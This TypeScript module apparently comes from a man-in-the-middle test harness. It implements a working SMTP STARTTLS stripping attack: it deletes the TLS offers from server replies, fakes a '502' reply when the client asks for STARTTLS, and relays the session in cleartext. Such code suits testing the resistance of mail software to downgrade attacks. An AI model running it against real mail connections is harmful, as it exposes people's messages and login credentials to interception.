import type { Attack } from "../middle.ts";
import { beginsTls, replyReader, withoutTls } from "./verbs.ts";

/**
 * Takes STARTTLS and X-ANONYMOUSTLS out of what the server offers, and answers in its place a client that asks for them
 * all the same: TLS never begins. Source: RFC 3207 §6, the man in the middle who deletes the 250 STARTTLS.
 */
export const stripStartTls: Attack = ({ client, server, record }) => {
  let mailBegun = false; // a line of a message is no command
  const rewrite = replyReader((lines) => client.write(`${withoutTls(lines).join("\r\n")}\r\n`, "latin1"));
  server.on("data", (octets: Buffer) => {
    record("server", octets);
    rewrite(octets);
  });
  client.on("data", (octets: Buffer) => {
    record("client", octets);
    if (!mailBegun && beginsTls(octets)) return void client.write("502 5.3.3 Command not implemented\r\n");
    mailBegun ||= /^MAIL FROM:/i.test(octets.toString("latin1", 0, 16));
    server.write(octets);
  });
};
